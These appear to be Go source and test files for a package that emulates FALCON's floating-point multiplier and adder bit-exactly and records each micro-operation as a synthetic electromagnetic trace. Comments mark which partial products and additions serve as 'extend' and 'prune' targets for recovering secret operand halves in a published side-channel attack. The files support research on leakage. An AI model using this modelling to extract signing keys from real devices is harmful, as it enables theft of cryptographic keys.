	"testing/quick"
)

// normalValue draws a normal float64 in a moderate exponent band so that
// operation results stay normal (no subnormal flush, no overflow), which is
// the domain in which fpr promises bit-exactness with the hardware.
type normalValue float64

// Generate implements testing/quick.Generator.
func (normalValue) Generate(r *rand.Rand, _ int) reflect.Value {
	return reflect.ValueOf(normalValue(randNormal(r, -120, 120)))
}

var quickCfg = &quick.Config{MaxCount: 20000}

func TestQuickAddCommutative(t *testing.T) {
	f := func(a, b normalValue) bool {
		x, y := FromFloat64(float64(a)), FromFloat64(float64(b))
		return Add(x, y) == Add(y, x)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickMulCommutative(t *testing.T) {
	f := func(a, b normalValue) bool {
		x, y := FromFloat64(float64(a)), FromFloat64(float64(b))
		return Mul(x, y) == Mul(y, x)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickAddHardwareEquivalence(t *testing.T) {
	f := func(a, b normalValue) bool {
		got := Add(FromFloat64(float64(a)), FromFloat64(float64(b))).Float64()
		return math.Float64bits(got) == math.Float64bits(float64(a)+float64(b))
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickMulHardwareEquivalence(t *testing.T) {
	f := func(a, b normalValue) bool {
		got := Mul(FromFloat64(float64(a)), FromFloat64(float64(b))).Float64()
		return math.Float64bits(got) == math.Float64bits(float64(a)*float64(b))
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickDivHardwareEquivalence(t *testing.T) {
	f := func(a, b normalValue) bool {
		got := Div(FromFloat64(float64(a)), FromFloat64(float64(b))).Float64()
		return math.Float64bits(got) == math.Float64bits(float64(a)/float64(b))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}

func TestQuickSqrtHardwareEquivalence(t *testing.T) {
	f := func(a normalValue) bool {
		v := math.Abs(float64(a))
		got := Sqrt(FromFloat64(v)).Float64()
		return math.Float64bits(got) == math.Float64bits(math.Sqrt(v))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}

func TestQuickNegInvolution(t *testing.T) {
	f := func(a normalValue) bool {
		x := FromFloat64(float64(a))
		return Neg(Neg(x)) == x && Add(x, Neg(x)) == Zero
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickMulByPowerOfTwoExact(t *testing.T) {
	f := func(a normalValue) bool {
		x := FromFloat64(float64(a))
		return Mul(x, Two) == Double(x) && Mul(x, Half) == Half2(x)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickMantissaHalvesRecombine(t *testing.T) {
	f := func(a normalValue) bool {
		x := FromFloat64(float64(a))
		hi, lo := x.MantissaHalves()
		return hi<<25|lo == x.MantissaFull() && lo < 1<<25 && hi < 1<<28 && hi>>27 == 1
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickRintBounds(t *testing.T) {
	f := func(a normalValue) bool {
		v := float64(a)
		if math.Abs(v) >= 1<<60 {
			return true
		}
		got := Rint(FromFloat64(v))
		return math.Abs(float64(got)-v) <= 0.5
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestQuickDivMulInverse(t *testing.T) {
	// x/y · y should be within 1 ulp of x (floating error bound, not
	// exactness — a sanity property of the rounding quality).
	f := func(a, b normalValue) bool {
		x, y := FromFloat64(float64(a)), FromFloat64(float64(b))
		back := Mul(Div(x, y), y)
		diff := math.Abs(back.Float64() - x.Float64())
		ulp := math.Abs(x.Float64()) * math.Ldexp(1, -51)
		return diff <= ulp
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}
