package fpr

import (
	"math"
	"math/bits"
	"strconv"
)

func strconvFormat(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

func sqrtEstimate(n float64) float64 { return math.Sqrt(n) }

// roundPack rounds a normalized significand m in [2^54, 2^55) — i.e. the
// 53 result bits followed by a guard bit and a jammed round/sticky bit —
// to nearest-even and packs it with sign s (positioned at bit 63) and
// unbiased exponent e (the exponent of the value m/2^54 · 2^e).
func roundPack(s uint64, e int, m uint64) FPR {
	kept := m >> 2
	switch m & 3 {
	case 3:
		kept++
	case 2:
		kept += kept & 1
	}
	if kept == 1<<53 {
		kept >>= 1
		e++
	}
	return pack(s, e, kept)
}

// normTo55 normalizes m (with a pending sticky flag) into [2^54, 2^55),
// adjusting e and jamming lost bits, then rounds and packs.
func normTo55(s uint64, e int, m uint64, sticky bool) FPR {
	for m >= 1<<55 {
		if m&1 != 0 {
			sticky = true
		}
		m >>= 1
		e++
	}
	for m < 1<<54 {
		m <<= 1
		e--
	}
	if sticky {
		m |= 1
	}
	return roundPack(s, e, m)
}

// Mul returns x*y, rounded to nearest-even.
func Mul(x, y FPR) FPR { return MulTraced(x, y, nil) }

// MulTraced returns x*y while reporting every micro-operation of FALCON's
// emulated multiplier to rec (which may be nil). The datapath follows the
// reference implementation attacked by the paper:
//
//  1. the 53-bit significands are split into high 28-bit and low 25-bit
//     halves (A,B for x and C,D for y);
//  2. four schoolbook partial products B×D, A×D, B×C, A×C are formed;
//  3. intermediate additions recombine them into a 106-bit product with
//     sticky bits folding the discarded low half;
//  4. the product is rounded to a 53-bit mantissa;
//  5. the 11-bit exponents are added and the sign bits XOR-ed.
func MulTraced(x, y FPR, rec Recorder) FPR {
	s := (uint64(x) ^ uint64(y)) & signBit
	if x.IsZero() || y.IsZero() {
		if rec != nil {
			rec.Record(OpMulSign, s>>63)
			rec.Record(OpMulResult, s)
		}
		return FPR(s)
	}
	ex := x.BiasedExp() - expBias
	ey := y.BiasedExp() - expBias
	mx := x.MantissaFull() // 53 bits, in [2^52, 2^53)
	my := y.MantissaFull()

	// Split each significand into the high 28 / low 25 halves of Fig. 2.
	xh, xl := mx>>loSplit, mx&loMask // A, B
	yh, yl := my>>loSplit, my&loMask // C, D

	// Schoolbook partial products. Widths: ll ≤ 50 bits, hl/lh ≤ 53 bits,
	// hh ≤ 56 bits.
	ll := xl * yl // B×D
	hl := xh * yl // A×D
	lh := xl * yh // B×C
	hh := xh * yh // A×C
	if rec != nil {
		rec.Record(OpMulLL, ll)
		rec.Record(OpMulHL, hl)
		rec.Record(OpMulLH, lh)
		rec.Record(OpMulHH, hh)
	}

	// Recombine: product = hh·2^50 + (hl+lh)·2^25 + ll, a 105/106-bit
	// value of which only the top ~55 bits survive; everything below is
	// folded into sticky bits.
	mid := lh + hl // ≤ 54 bits
	if rec != nil {
		rec.Record(OpMulMid, mid)
	}
	sum1 := mid + (ll >> loSplit) // ≤ 55 bits
	if rec != nil {
		rec.Record(OpMulSum1, sum1)
	}
	sum2 := hh + (sum1 >> loSplit) // top bits of the product, in [2^54, 2^56)
	if rec != nil {
		rec.Record(OpMulSum2, sum2)
	}
	sticky := (ll&loMask)|(sum1&loMask) != 0

	// value = (mx·my)·2^(ex+ey-104) and mx·my ∈ [2^104, 2^106), so with
	// sum2 = (mx·my)>>50 ∈ [2^54, 2^56) the exponent of sum2/2^54·2^e is
	// e = ex+ey (normTo55 bumps it when sum2 ≥ 2^55).
	e := ex + ey
	r := normTo55(s, e, sum2, sticky)
	if rec != nil {
		rec.Record(OpMulMant, r.MantissaFull())
		// The exponent adder latches the raw biased sum before the
		// normalization carry is folded in — that is the register state a
		// physical implementation exposes, and the one the attack targets.
		rec.Record(OpMulExp, uint64(ex+ey+expBias))
		rec.Record(OpMulSign, s>>63)
		rec.Record(OpMulResult, uint64(r))
	}
	return r
}

// Add returns x+y, rounded to nearest-even.
func Add(x, y FPR) FPR { return AddTraced(x, y, nil) }

// Sub returns x-y, rounded to nearest-even.
func Sub(x, y FPR) FPR { return AddTraced(x, Neg(y), nil) }

// SubTraced returns x-y while reporting micro-operations to rec.
func SubTraced(x, y FPR, rec Recorder) FPR { return AddTraced(x, Neg(y), rec) }

// AddTraced returns x+y while reporting every micro-operation of FALCON's
// emulated adder to rec (which may be nil): operand alignment, the wide
// add/subtract, renormalization and rounding.
//
// Internally the significands are aligned in an exact 128-bit fixed-point
// register (the larger operand's 53-bit significand scaled by 2^64), which
// makes round-to-nearest-even provably exact for every exponent gap and
// cancellation pattern.
func AddTraced(x, y FPR, rec Recorder) FPR {
	// Order so that |x| >= |y|; the result carries x's sign.
	if magLess(x, y) {
		x, y = y, x
	}
	if y.IsZero() {
		if x.IsZero() {
			// (+0)+(+0)=+0, (-0)+(-0)=-0, mixed = +0 under round-to-nearest.
			r := FPR(uint64(x) & uint64(y) & signBit)
			if rec != nil {
				rec.Record(OpAddResult, uint64(r))
			}
			return r
		}
		if rec != nil {
			rec.Record(OpAddResult, uint64(x))
		}
		return x
	}
	sx := uint64(x) & signBit
	sy := uint64(y) & signBit
	ex := x.BiasedExp() - expBias
	ey := y.BiasedExp() - expBias
	mx := x.MantissaFull()
	my := y.MantissaFull()
	d := ex - ey // >= 0 by the magnitude ordering

	// X = mx·2^64; Y = my·2^64 >> d, exact for d <= 64, with truncated
	// fraction tracked separately beyond that.
	var yhi, ylo uint64
	frac := false
	switch {
	case d <= 0:
		yhi, ylo = my, 0
	case d < 64:
		yhi, ylo = my>>uint(d), my<<uint(64-d)
	case d == 64:
		yhi, ylo = 0, my
	case d < 64+53:
		yhi, ylo = 0, my>>uint(d-64)
		frac = my&((uint64(1)<<uint(d-64))-1) != 0
	default:
		yhi, ylo = 0, 0
		frac = true
	}
	if rec != nil {
		rec.Record(OpAddAlign, yhi)
	}

	var nhi, nlo uint64
	sticky := frac
	if sx == sy {
		var carry uint64
		nlo, carry = bits.Add64(0, ylo, 0)
		nhi, _ = bits.Add64(mx, yhi, carry)
	} else {
		var borrow uint64
		nlo, borrow = bits.Sub64(0, ylo, 0)
		nhi, _ = bits.Sub64(mx, yhi, borrow)
		if frac {
			// The true subtrahend was slightly larger than its truncation;
			// biasing the difference down by one and setting sticky keeps
			// the rounding classification exact.
			nlo, borrow = bits.Sub64(nlo, 1, 0)
			nhi -= borrow
		}
	}
	if rec != nil {
		rec.Record(OpAddSum, nhi)
	}
	if nhi == 0 && nlo == 0 {
		// Exact cancellation yields +0 under round-to-nearest.
		if rec != nil {
			rec.Record(OpAddResult, 0)
		}
		return Zero
	}

	// Normalize N = nhi:nlo so that the high word lands in [2^54, 2^55);
	// value = N · 2^(ex-116), so the result exponent is ex + bitlen(N) - 117.
	blen := 64 + bits.Len64(nhi)
	if nhi == 0 {
		blen = bits.Len64(nlo)
	}
	e := ex + blen - 117
	sh := blen - 119 // right-shift amount to land the top bit at 118
	switch {
	case sh > 0:
		if nlo&((uint64(1)<<uint(sh))-1) != 0 {
			sticky = true
		}
		nlo = nlo>>uint(sh) | nhi<<uint(64-sh)
		nhi >>= uint(sh)
	case sh < 0:
		k := uint(-sh)
		if k >= 64 {
			nhi = nlo << (k - 64)
			nlo = 0
		} else {
			nhi = nhi<<k | nlo>>(64-k)
			nlo <<= k
		}
	}
	if nlo != 0 {
		sticky = true
	}
	m := nhi
	if sticky {
		m |= 1
	}
	r := roundPack(sx, e, m)
	if rec != nil {
		rec.Record(OpAddMant, r.MantissaFull())
		rec.Record(OpAddExp, uint64(r.BiasedExp()))
		rec.Record(OpAddSign, uint64(r)>>63)
		rec.Record(OpAddResult, uint64(r))
	}
	return r
}

// Div returns x/y, rounded to nearest-even, by restoring long division on
// the significands (as FALCON's reference emulation does).
func Div(x, y FPR) FPR {
	s := (uint64(x) ^ uint64(y)) & signBit
	if x.IsZero() {
		return FPR(s)
	}
	if y.IsZero() {
		return FPR(s | expMask) // infinity; never happens inside FALCON
	}
	ex := x.BiasedExp() - expBias
	ey := y.BiasedExp() - expBias
	mx := x.MantissaFull()
	my := y.MantissaFull()

	// Produce a 56-bit quotient q ≈ (mx/my)·2^55 ∈ (2^54, 2^56) by
	// restoring division; the remainder feeds the sticky bit.
	var q uint64
	num := mx
	for i := 0; i < 56; i++ {
		q <<= 1
		if num >= my {
			num -= my
			q |= 1
		}
		num <<= 1
	}
	sticky := num != 0
	// value = (mx/my)·2^(ex-ey) = (q/2^55)·2^(ex-ey) = (q/2^54)·2^(ex-ey-1).
	return normTo55(s, ex-ey-1, q, sticky)
}

// Inv returns 1/x.
func Inv(x FPR) FPR { return Div(One, x) }

// Sqrt returns the square root of x (x must be non-negative), rounded to
// nearest-even, using an exact integer square root of the widened
// significand.
func Sqrt(x FPR) FPR {
	if x.IsZero() {
		return Zero
	}
	e := x.BiasedExp() - expBias
	m := x.MantissaFull() // value = m · 2^(e-52)
	// Make the exponent even so the square root of the power of two is exact.
	if (e-52)&1 != 0 {
		m <<= 1
		e--
	}
	// N = m << 56 (a 128-bit value in [2^108, 2^110)); q = isqrt(N) is in
	// [2^54, 2^55), exactly the roundPack convention, with exponent
	// (e-52)/2 + 54 - 54 ... derivation: sqrt(value) = sqrt(m)·2^((e-52)/2)
	// = (q/2^28)·2^((e-52)/2) = (q/2^54)·2^(26+(e-52)/2).
	hi := m >> 8    // N = hi·2^64 + lo with
	lo := (m << 56) // m << 56 split into two 64-bit words
	q := isqrt128(hi, lo)
	ph, pl := bits.Mul64(q, q)
	sticky := ph != hi || pl != lo
	return roundPack(0, 26+(e-52)/2, withJam(q, sticky))
}

func withJam(m uint64, sticky bool) uint64 {
	if sticky {
		return m | 1
	}
	return m
}

// isqrt128 returns floor(sqrt(hi·2^64 + lo)) for hi < 2^46 (sufficient for
// the widened significand range used by Sqrt). It seeds with a hardware
// floating-point estimate and corrects with exact 128-bit comparisons.
func isqrt128(hi, lo uint64) uint64 {
	n := float64(hi)*18446744073709551616.0 + float64(lo)
	q := uint64(sqrtEstimate(n))
	// Correct the estimate: find the largest q with q² ≤ N.
	for {
		ph, pl := bits.Mul64(q, q)
		if ph > hi || (ph == hi && pl > lo) {
			q--
			continue
		}
		// q² ≤ N; check (q+1)².
		q1 := q + 1
		ph, pl = bits.Mul64(q1, q1)
		if ph < hi || (ph == hi && pl <= lo) {
			q = q1
			continue
		}
		return q
	}
}
