package fpr

// Op tags a micro-operation of the emulated floating-point datapath. Each
// recorded operation corresponds to one region of the synthetic EM trace,
// mirroring the annotated regions of Fig. 3 of the paper.
type Op uint8

const (
	// Multiplication micro-ops, in execution order. With the known operand
	// x split into (A=high 28 bits, B=low 25 bits) and the secret operand y
	// split into (C, D) as in the paper's Fig. 2:
	OpMulLL     Op = iota // B×D: low(x)·low(y) partial product (extend target for D)
	OpMulHL               // A×D: high(x)·low(y) partial product (extend target for D)
	OpMulLH               // B×C: low(x)·high(y) partial product (extend target for C)
	OpMulHH               // A×C: high(x)·high(y) partial product
	OpMulMid              // lh+hl: first intermediate addition (prune target)
	OpMulSum1             // mid + carry(ll): second intermediate addition (prune target)
	OpMulSum2             // hh + carry(sum1): high accumulation (prune target for C)
	OpMulMant             // rounded 53-bit result mantissa
	OpMulExp              // exponent addition result (biased sum)
	OpMulSign             // sign XOR result
	OpMulResult           // full 64-bit packed product

	// Addition micro-ops.
	OpAddAlign // aligned (shifted) smaller operand
	OpAddSum   // raw sum/difference of aligned mantissas
	OpAddMant  // normalized, rounded mantissa
	OpAddExp   // result exponent
	OpAddSign  // result sign
	OpAddResult

	// Division and square root record only their results; they do not occur
	// in the attacked signing path.
	OpDivResult
	OpSqrtResult

	numOps
)

// NumOps is the number of distinct micro-operation tags.
const NumOps = int(numOps)

var opNames = [...]string{
	"mul.ll(B×D)", "mul.hl(A×D)", "mul.lh(B×C)", "mul.hh(A×C)",
	"mul.mid", "mul.sum1", "mul.sum2", "mul.mant", "mul.exp", "mul.sign", "mul.result",
	"add.align", "add.sum", "add.mant", "add.exp", "add.sign", "add.result",
	"div.result", "sqrt.result",
}

// String returns a short human-readable tag name.
func (op Op) String() string {
	if int(op) < len(opNames) {
		return opNames[op]
	}
	return "op?"
}

// A Recorder observes every intermediate value of the emulated datapath.
// It models the physical reality that each micro-operation latches a value
// into CMOS registers whose switching activity radiates electromagnetically.
type Recorder interface {
	Record(op Op, value uint64)
}

// SliceRecorder collects recorded micro-operations in order.
type SliceRecorder struct {
	Ops    []Op
	Values []uint64
}

// Record appends one micro-operation.
func (r *SliceRecorder) Record(op Op, value uint64) {
	r.Ops = append(r.Ops, op)
	r.Values = append(r.Values, value)
}

// Reset clears the recorder for reuse without reallocating.
func (r *SliceRecorder) Reset() {
	r.Ops = r.Ops[:0]
	r.Values = r.Values[:0]
}

// Len returns the number of recorded micro-operations.
func (r *SliceRecorder) Len() int { return len(r.Ops) }
