package fpr

import (
	"math"
	"math/rand"
	"testing"
)

// randNormal returns a random normal float64 with exponent confined to
// [minE, maxE] (unbiased), the range FALCON's arithmetic inhabits.
func randNormal(r *rand.Rand, minE, maxE int) float64 {
	e := minE + r.Intn(maxE-minE+1)
	m := r.Uint64() & mantMask
	s := r.Uint64() & 1
	bits := s<<63 | uint64(e+expBias)<<52 | m
	return math.Float64frombits(bits)
}

func TestFromFloat64RoundTrip(t *testing.T) {
	for _, v := range []float64{0, 1, -1, 0.5, 2, 1.5, -3.25, 12289, 1e-10, 1e10, math.Pi} {
		if got := FromFloat64(v).Float64(); got != v {
			t.Errorf("round trip %v -> %v", v, got)
		}
	}
}

func TestFromInt64(t *testing.T) {
	cases := []int64{0, 1, -1, 2, -2, 127, -127, 12289, -12289, 1 << 40, -(1 << 40), (1 << 53) - 1, -((1 << 53) - 1)}
	for _, v := range cases {
		if got := FromInt64(v).Float64(); got != float64(v) {
			t.Errorf("FromInt64(%d) = %v", v, got)
		}
	}
	// Values beyond 2^53 must round to nearest-even like the hardware cast.
	r := rand.New(rand.NewSource(1))
	for i := 0; i < 2000; i++ {
		v := int64(r.Uint64() >> uint(1+r.Intn(10)))
		if r.Intn(2) == 0 {
			v = -v
		}
		if got, want := FromInt64(v).Float64(), float64(v); got != want {
			t.Fatalf("FromInt64(%d) = %v, want %v", v, got, want)
		}
	}
}

func TestFromScaled(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	for i := 0; i < 2000; i++ {
		v := int64(r.Uint64()>>11) - (1 << 52)
		sc := r.Intn(200) - 100
		want := float64(v) * math.Pow(2, float64(sc))
		if got := FromScaled(v, sc).Float64(); got != want {
			t.Fatalf("FromScaled(%d, %d) = %v, want %v", v, sc, got, want)
		}
	}
}

func TestFieldAccessors(t *testing.T) {
	x := FromFloat64(-6.023125) // the paper's example has sign 1
	if x.Sign() != 1 {
		t.Errorf("Sign = %d", x.Sign())
	}
	if Neg(x).Sign() != 0 {
		t.Errorf("Neg sign = %d", Neg(x).Sign())
	}
	if Abs(x) != Neg(x) {
		t.Errorf("Abs mismatch")
	}
	// The paper's running example coefficient 0xC06017BC8036B580:
	// sign 1, exponent 0x406, mantissa 0x017BC8036B580.
	c := FPR(0xC06017BC8036B580)
	if c.Sign() != 1 {
		t.Errorf("example sign = %d", c.Sign())
	}
	if c.BiasedExp() != 0x406 {
		t.Errorf("example exponent = %#x", c.BiasedExp())
	}
	if c.Mantissa() != 0x017BC8036B580 {
		t.Errorf("example mantissa = %#x", c.Mantissa())
	}
	hi, lo := c.MantissaHalves()
	if lo != 0x36B580 {
		t.Errorf("low half = %#x, want the paper's 0x36B580", lo)
	}
	if hi != 0x80BDE40 {
		// full 53-bit mantissa 0x1017BC8036B580 >> 25: the implicit one at
		// bit 27 followed by the paper's quoted higher-order bits 0x0BDE40x.
		t.Errorf("high half = %#x", hi)
	}
	if hi>>27 != 1 {
		t.Errorf("high half must carry the implicit leading one")
	}
}

func TestHalfDouble(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	for i := 0; i < 2000; i++ {
		v := randNormal(r, -500, 500)
		if got := Half2(FromFloat64(v)).Float64(); got != v/2 {
			t.Fatalf("Half(%v) = %v", v, got)
		}
		if got := Double(FromFloat64(v)).Float64(); got != v*2 {
			t.Fatalf("Double(%v) = %v", v, got)
		}
	}
}

func TestAddMatchesHardware(t *testing.T) {
	r := rand.New(rand.NewSource(4))
	for i := 0; i < 200000; i++ {
		a := randNormal(r, -300, 300)
		b := randNormal(r, -300, 300)
		got := Add(FromFloat64(a), FromFloat64(b)).Float64()
		want := a + b
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Fatalf("Add(%v, %v) = %v (%#x), want %v (%#x)",
				a, b, got, math.Float64bits(got), want, math.Float64bits(want))
		}
	}
}

func TestAddCloseExponents(t *testing.T) {
	// Stress cancellation: operands with tiny exponent gaps and related
	// mantissas, where rounding bugs typically hide.
	r := rand.New(rand.NewSource(5))
	for i := 0; i < 200000; i++ {
		a := randNormal(r, 0, 4)
		bBits := math.Float64bits(a) ^ (r.Uint64() & 0xFFF) // perturb low bits
		b := math.Float64frombits(bBits ^ (r.Uint64() & (1 << 63)))
		got := Add(FromFloat64(a), FromFloat64(b)).Float64()
		want := a + b
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Fatalf("Add(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

func TestAddHugeExponentGap(t *testing.T) {
	cases := [][2]float64{
		{1, 1e-300}, {1, -1e-300}, {-1, 1e-300},
		{1, math.Ldexp(1, -54)}, {1, -math.Ldexp(1, -54)},
		{1, math.Ldexp(1, -53)}, {1, -math.Ldexp(1, -53)},
		{1, math.Ldexp(1.5, -53)}, {1, -math.Ldexp(1.5, -53)},
		{1.5, math.Ldexp(1, -52)}, {1 + math.Ldexp(1, -52), math.Ldexp(1, -53)},
	}
	for _, c := range cases {
		got := Add(FromFloat64(c[0]), FromFloat64(c[1])).Float64()
		want := c[0] + c[1]
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Errorf("Add(%v, %v) = %v, want %v", c[0], c[1], got, want)
		}
	}
}

func TestAddZeroCases(t *testing.T) {
	pz, nz := FromFloat64(0), FromFloat64(math.Copysign(0, -1))
	one := FromFloat64(1)
	if got := Add(pz, nz); got != pz {
		t.Errorf("(+0)+(-0) = %v", got)
	}
	if got := Add(nz, nz); got != nz {
		t.Errorf("(-0)+(-0) = %v", got)
	}
	if got := Add(one, Neg(one)); got != pz {
		t.Errorf("1+(-1) = %v", got)
	}
	if got := Add(nz, one); got != one {
		t.Errorf("(-0)+1 = %v", got)
	}
}

func TestSubMatchesHardware(t *testing.T) {
	r := rand.New(rand.NewSource(6))
	for i := 0; i < 100000; i++ {
		a := randNormal(r, -100, 100)
		b := randNormal(r, -100, 100)
		got := Sub(FromFloat64(a), FromFloat64(b)).Float64()
		want := a - b
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Fatalf("Sub(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

func TestMulMatchesHardware(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	for i := 0; i < 200000; i++ {
		a := randNormal(r, -300, 300)
		b := randNormal(r, -300, 300)
		got := Mul(FromFloat64(a), FromFloat64(b)).Float64()
		want := a * b
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Fatalf("Mul(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

func TestMulSpecialValues(t *testing.T) {
	cases := [][2]float64{
		{0, 5}, {5, 0}, {0, 0}, {-0.0, 5}, {5, -0.0},
		{1, 1}, {-1, 1}, {1.5, 1.5}, {3, 1.0 / 3},
		{math.Ldexp(1, 500), math.Ldexp(1, 500)}, // overflow -> inf
	}
	for _, c := range cases {
		got := Mul(FromFloat64(c[0]), FromFloat64(c[1])).Float64()
		want := c[0] * c[1]
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Errorf("Mul(%v, %v) = %v, want %v", c[0], c[1], got, want)
		}
	}
}

func TestMulRoundingTies(t *testing.T) {
	// Products landing exactly halfway between representable doubles must
	// round to even. (1+2^-52)·(1+2^-52) = 1 + 2^-51 + 2^-104: the 2^-104
	// sticky forces rounding up from the tie.
	a := math.Float64frombits(math.Float64bits(1.0) + 1)
	got := Mul(FromFloat64(a), FromFloat64(a)).Float64()
	if math.Float64bits(got) != math.Float64bits(a*a) {
		t.Errorf("tie-breaking mismatch: %x vs %x", math.Float64bits(got), math.Float64bits(a*a))
	}
}

func TestDivMatchesHardware(t *testing.T) {
	r := rand.New(rand.NewSource(8))
	for i := 0; i < 50000; i++ {
		a := randNormal(r, -200, 200)
		b := randNormal(r, -200, 200)
		got := Div(FromFloat64(a), FromFloat64(b)).Float64()
		want := a / b
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Fatalf("Div(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

func TestSqrtMatchesHardware(t *testing.T) {
	r := rand.New(rand.NewSource(9))
	for i := 0; i < 50000; i++ {
		a := math.Abs(randNormal(r, -400, 400))
		got := Sqrt(FromFloat64(a)).Float64()
		want := math.Sqrt(a)
		if math.Float64bits(got) != math.Float64bits(want) {
			t.Fatalf("Sqrt(%v) = %v, want %v", a, got, want)
		}
	}
	if got := Sqrt(Zero); got != Zero {
		t.Errorf("Sqrt(0) = %v", got)
	}
}

func TestRint(t *testing.T) {
	cases := []struct {
		in   float64
		want int64
	}{
		{0, 0}, {0.4, 0}, {0.5, 0}, {0.6, 1}, {1.5, 2}, {2.5, 2}, {-0.5, 0},
		{-1.5, -2}, {-2.5, -2}, {3.49999, 3}, {-3.5, -4}, {1e15 + 0.5, 1e15},
		{12288.75, 12289},
	}
	for _, c := range cases {
		if got := Rint(FromFloat64(c.in)); got != c.want {
			t.Errorf("Rint(%v) = %d, want %d", c.in, got, c.want)
		}
	}
	r := rand.New(rand.NewSource(10))
	for i := 0; i < 100000; i++ {
		v := randNormal(r, -4, 40)
		want := int64(math.RoundToEven(v))
		if got := Rint(FromFloat64(v)); got != want {
			t.Fatalf("Rint(%v) = %d, want %d", v, got, want)
		}
	}
}

func TestFloorTrunc(t *testing.T) {
	cases := []struct {
		in           float64
		floor, trunc int64
	}{
		{0, 0, 0}, {0.9, 0, 0}, {-0.9, -1, 0}, {2.5, 2, 2}, {-2.5, -3, -2},
		{7, 7, 7}, {-7, -7, -7}, {1e6 + 0.25, 1e6, 1e6}, {-1e6 - 0.25, -1e6 - 1, -1e6},
	}
	for _, c := range cases {
		if got := Floor(FromFloat64(c.in)); got != c.floor {
			t.Errorf("Floor(%v) = %d, want %d", c.in, got, c.floor)
		}
		if got := Trunc(FromFloat64(c.in)); got != c.trunc {
			t.Errorf("Trunc(%v) = %d, want %d", c.in, got, c.trunc)
		}
	}
	r := rand.New(rand.NewSource(11))
	for i := 0; i < 100000; i++ {
		v := randNormal(r, -4, 40)
		if got, want := Floor(FromFloat64(v)), int64(math.Floor(v)); got != want {
			t.Fatalf("Floor(%v) = %d, want %d", v, got, want)
		}
		if got, want := Trunc(FromFloat64(v)), int64(math.Trunc(v)); got != want {
			t.Fatalf("Trunc(%v) = %d, want %d", v, got, want)
		}
	}
}

func TestLt(t *testing.T) {
	r := rand.New(rand.NewSource(12))
	for i := 0; i < 10000; i++ {
		a := randNormal(r, -50, 50)
		b := randNormal(r, -50, 50)
		if got, want := Lt(FromFloat64(a), FromFloat64(b)), a < b; got != want {
			t.Fatalf("Lt(%v, %v) = %v", a, b, got)
		}
	}
}

func TestTracedMatchesUntraced(t *testing.T) {
	// The instrumented datapath must compute exactly the same results as
	// the fast path: recording is observation, not perturbation.
	r := rand.New(rand.NewSource(13))
	var rec SliceRecorder
	for i := 0; i < 20000; i++ {
		a := FromFloat64(randNormal(r, -100, 100))
		b := FromFloat64(randNormal(r, -100, 100))
		rec.Reset()
		if MulTraced(a, b, &rec) != Mul(a, b) {
			t.Fatalf("MulTraced diverges on %v × %v", a, b)
		}
		rec.Reset()
		if AddTraced(a, b, &rec) != Add(a, b) {
			t.Fatalf("AddTraced diverges on %v + %v", a, b)
		}
	}
}

func TestMulTraceStructure(t *testing.T) {
	var rec SliceRecorder
	a := FromFloat64(1.25)
	b := FromFloat64(-3.5)
	MulTraced(a, b, &rec)
	wantOps := []Op{OpMulLL, OpMulHL, OpMulLH, OpMulHH, OpMulMid, OpMulSum1,
		OpMulSum2, OpMulMant, OpMulExp, OpMulSign, OpMulResult}
	if len(rec.Ops) != len(wantOps) {
		t.Fatalf("got %d ops, want %d", len(rec.Ops), len(wantOps))
	}
	for i, op := range wantOps {
		if rec.Ops[i] != op {
			t.Errorf("op %d = %v, want %v", i, rec.Ops[i], op)
		}
	}
	// Verify the recorded partial products are the actual operand halves'
	// schoolbook products.
	ahi, alo := a.MantissaHalves()
	bhi, blo := b.MantissaHalves()
	if rec.Values[0] != alo*blo {
		t.Errorf("B×D record = %#x, want %#x", rec.Values[0], alo*blo)
	}
	if rec.Values[1] != ahi*blo {
		t.Errorf("A×D record = %#x, want %#x", rec.Values[1], ahi*blo)
	}
	if rec.Values[2] != alo*bhi {
		t.Errorf("B×C record = %#x", rec.Values[2])
	}
	if rec.Values[3] != ahi*bhi {
		t.Errorf("A×C record = %#x", rec.Values[3])
	}
	if rec.Values[10] != uint64(Mul(a, b)) {
		t.Errorf("result record mismatch")
	}
}

func TestOpString(t *testing.T) {
	seen := map[string]bool{}
	for op := Op(0); op < Op(NumOps); op++ {
		s := op.String()
		if s == "" || s == "op?" {
			t.Errorf("op %d has no name", op)
		}
		if seen[s] {
			t.Errorf("duplicate op name %q", s)
		}
		seen[s] = true
	}
	if Op(200).String() != "op?" {
		t.Errorf("out-of-range op name")
	}
}

func TestSliceRecorderReset(t *testing.T) {
	var rec SliceRecorder
	rec.Record(OpMulLL, 42)
	if rec.Len() != 1 {
		t.Fatalf("Len = %d", rec.Len())
	}
	rec.Reset()
	if rec.Len() != 0 {
		t.Fatalf("Len after reset = %d", rec.Len())
	}
}

func TestStringFormat(t *testing.T) {
